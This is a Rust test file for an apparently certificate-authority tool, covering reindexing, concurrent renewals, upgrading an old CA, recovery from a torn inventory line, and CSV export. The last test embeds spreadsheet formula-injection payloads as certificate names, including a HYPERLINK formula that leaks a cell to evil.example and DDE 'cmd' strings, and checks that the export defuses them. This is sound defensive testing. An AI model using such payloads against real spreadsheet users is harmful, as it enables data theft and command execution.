//! The records behind the folder: reindex, overlapping renewals, an upgraded 0.1 CA, a torn line, CSV listings.

use super::*;

#[test]
fn a_missing_issued_copy_is_restored_by_reindex() {
    let env = Env::new();
    three_clients(&env);
    let serial = env.list("pki")[0]["serial"]
        .as_str()
        .expect("serial")
        .to_string();
    let copy = format!("pki/issued/{serial}.cer");
    let original = env.read(&copy);
    std::fs::remove_file(env.path(&copy)).expect("rm");
    let (code, report) = audit(&env, "pki");
    assert_eq!(
        code, 0,
        "a missing copy the record can restore is a warning: {report}"
    );
    // A copy lost long after its delivery is put back by reindex, which goes over the whole folder (other
    // commands look only at what a crash can leave: the records after the last checkpoint).
    let done = env.json("certkit-ca", &["reindex", "--ca", "pki", "--json"]);
    assert_eq!(done["copies_restored"], 1, "{done}");
    assert_eq!(done["certificates"], 3, "{done}");
    assert_eq!(env.read(&copy), original);
}

#[test]
fn two_overlapping_renewals_of_one_certificate_issue_one() {
    let env = Env::new();
    three_clients(&env);
    let children: Vec<_> = ["first", "second"]
        .iter()
        .map(|out| {
            env.cmd("certkit-issue")
                .args(Env::with_passwords(&[
                    "renew",
                    "--ca",
                    "pki",
                    "alice.cer",
                    "--out",
                    out,
                ]))
                .stdout(std::process::Stdio::piped())
                .spawn()
                .expect("spawn")
        })
        .collect();
    let outputs: Vec<serde_json::Value> = children
        .into_iter()
        .map(|c| {
            let out = c.wait_with_output().expect("wait");
            assert!(out.status.success());
            serde_json::from_slice(&out.stdout).expect("json")
        })
        .collect();
    let renewals: Vec<_> = env
        .list("pki")
        .into_iter()
        .filter(|e| e["renewal_of"] == outputs[0]["renewal_of"])
        .collect();
    assert_eq!(renewals.len(), 1, "{renewals:?}");
    assert_eq!(
        outputs
            .iter()
            .filter(|o| o["already_renewed"] == true)
            .count(),
        1
    );
    assert_eq!(outputs[0]["thumbprint"], outputs[1]["thumbprint"]);
    // Asked again, it says so; --force renews anyway.
    let again = env.ok(
        "certkit-issue",
        &cli("renew --ca pki alice.cer --out third --ca-pass env:CA_PW --key-pass env:KEY_PW"),
    );
    assert_contains(&again, &["was already renewed", "--force"]);
    assert!(!env.path("third.cer").exists());
    env.issue(&cli("renew --ca pki alice.cer --out third --force"));
    assert!(env.path("third.cer").exists());
}

#[test]
fn a_certkit_0_1_ca_is_upgraded_and_audits_clean() {
    let env = Env::new();
    let fixture = format!("{}/fixtures/ca-v0.1", env!("CARGO_MANIFEST_DIR"));
    env.tool("cp", &["-r", &fixture, "pki"]);
    let before = env.list("pki");
    assert_eq!(before.len(), 5);
    let original = env.read("pki/inventory.jsonl");
    let (code, report) = audit(&env, "pki");
    assert_eq!(code, 1);
    assert!(codes(&report).contains(&("not-chained".to_string(), None)));
    std::fs::copy(
        format!("{}/fixtures/ca-v0.1.pass", env!("CARGO_MANIFEST_DIR")),
        env.path("pw"),
    )
    .expect("copy");
    let out = env.run(
        "certkit-ca",
        &["crl", "--ca", "pki", "--ca-pass", "file:pw"],
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_contains(
        &text(&out.stderr),
        &["upgraded inventory.jsonl", "inventory.v1.jsonl"],
    );
    assert_eq!(
        env.read("pki/inventory.v1.jsonl"),
        original,
        "the original is kept"
    );
    // Every record is kept, field for field; `ad_mapping` is read from the certificate a record carries, which
    // a certkit 0.1 record did not and the upgraded one does.
    let without_mapping = |rows: Vec<serde_json::Value>| -> Vec<serde_json::Value> {
        rows.into_iter()
            .map(|mut row| {
                row.as_object_mut().map(|o| o.remove("ad_mapping"));
                row
            })
            .collect()
    };
    let after = env.list("pki");
    for row in after.iter().filter(|r| r["profile"] == "client") {
        assert!(
            row["ad_mapping"]["alt_security_identities"]["issuer_serial_number"].is_string(),
            "{row}"
        );
    }
    assert_eq!(
        without_mapping(after),
        without_mapping(before),
        "every record is kept, field for field"
    );
    let (code, report) = audit(&env, "pki");
    assert_eq!(code, 0, "{report}");
    let lines = inventory_lines(&env);
    assert!(
        lines
            .iter()
            .filter(|l| l.contains("\"event\":\"issued\""))
            .all(|l| l.contains("\"der\":"))
    );
    // And it keeps working: a new certificate lands on the chain.
    env.ok(
        "certkit-issue",
        &cli(
            "client --ca pki --cn dave --out dave --key p256 --ca-pass file:pw \
            --key-pass env:KEY_PW",
        ),
    );
    assert_eq!(audit(&env, "pki").0, 0);
}

#[test]
fn a_torn_last_line_never_makes_the_inventory_unreadable() {
    let env = Env::new();
    three_clients(&env);
    let intact = env.read("pki/inventory.jsonl");
    // Power lost mid-append, inside a two-byte UTF-8 character.
    let mut torn = intact.clone();
    torn.extend_from_slice(b"{\"event\":\"issued\",\"cn\":\"Jos\xc3");
    std::fs::write(env.path("pki/inventory.jsonl"), &torn).expect("write");
    assert_eq!(env.list("pki").len(), 3);
    let records = inventory_lines(&env).len() - 1;
    env.ok("certkit-ca", &["revoke", "--ca", "pki", "bob.cer"]);
    let lines = inventory_lines(&env);
    assert_eq!(
        lines.len(),
        records + 1,
        "the torn line was cut, the revocation appended"
    );
    assert!(env.read("pki/inventory.jsonl").starts_with(&intact));
    // A complete last record that only lost its newline is kept, never deleted.
    let without_newline = &env.read("pki/inventory.jsonl")[..];
    std::fs::write(
        env.path("pki/inventory.jsonl"),
        &without_newline[..without_newline.len() - 1],
    )
    .expect("write");
    assert_eq!(env.list("pki").len(), 3);
    env.ok("certkit-ca", &["revoke", "--ca", "pki", "carol.cer"]);
    let statuses: Vec<String> = env
        .list("pki")
        .iter()
        .map(|e| e["status"].as_str().expect("s").to_string())
        .collect();
    assert_eq!(statuses, ["revoked", "revoked", "valid"]);
}

#[test]
fn list_csv_is_a_spreadsheet_python_reads() {
    let env = Env::new();
    three_clients(&env);
    env.ok(
        "certkit-ca",
        &cli("revoke --ca pki bob.cer --reason keyCompromise"),
    );
    let csv = env.ok("certkit-ca", &["list", "--ca", "pki", "--csv"]);
    std::fs::write(env.path("list.csv"), &csv).expect("write");
    let out = env.tool(
        "python3",
        &[
            "-c",
            "import csv, json, sys; print(json.dumps(list(csv.DictReader(open(sys.argv[1])))))",
            "list.csv",
        ],
    );
    let rows: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
    let json = env.list("pki");
    assert_eq!(rows.as_array().expect("rows").len(), 3);
    for (row, entry) in rows.as_array().expect("rows").iter().zip(&json) {
        for field in [
            "serial",
            "cn",
            "thumbprint",
            "status",
            "not_after",
            "revocation_reason",
        ] {
            assert_eq!(row[field], entry[field].as_str().unwrap_or(""), "{field}");
        }
    }
}

#[test]
fn list_csv_never_hands_a_spreadsheet_a_formula() {
    // A requester chooses the subject of a CSR: a CN such as =HYPERLINK(...) would be live in Excel.
    let env = Env::new();
    env.init_ca_with("pki", &["--key", "p256"]);
    let hostile = [
        r#"=HYPERLINK("http://evil.example/?"&A1,"x")"#,
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ];
    for (i, cn) in hostile.iter().enumerate() {
        let name = format!("h{i}");
        // openssl -subj takes "\/" and "\+" for a slash and a plus inside a value.
        let subject = cn.replace('/', "\\/").replace('+', "\\+");
        env.openssl_p256_csr(&name, &format!("/CN={subject}"));
        env.issue(&[
            "sign",
            "--ca",
            "pki",
            "--csr",
            &format!("{name}.csr"),
            "--profile",
            "client",
            "--out",
            &name,
        ]);
    }
    let csv = env.ok("certkit-ca", &["list", "--ca", "pki", "--csv"]);
    std::fs::write(env.path("list.csv"), &csv).expect("write");
    let out = env.tool(
        "python3",
        &[
            "-c",
            "import csv, json, sys; print(json.dumps(list(csv.reader(open(sys.argv[1], newline='')))))",
            "list.csv",
        ],
    );
    let rows: Vec<Vec<String>> = serde_json::from_slice(&out.stdout).expect("json");
    for cell in rows.iter().flatten() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a spreadsheet would evaluate {cell:?}"
        );
    }
    // The text is all there, behind the quote that keeps it text; JSON keeps it as it is.
    let cns: Vec<&String> = rows.iter().skip(1).map(|r| &r[2]).collect();
    for cn in hostile {
        assert!(cns.contains(&&format!("'{cn}")), "{cn} in {cns:?}");
    }
    assert!(env.list("pki").iter().any(|e| e["cn"] == hostile[0]));
}
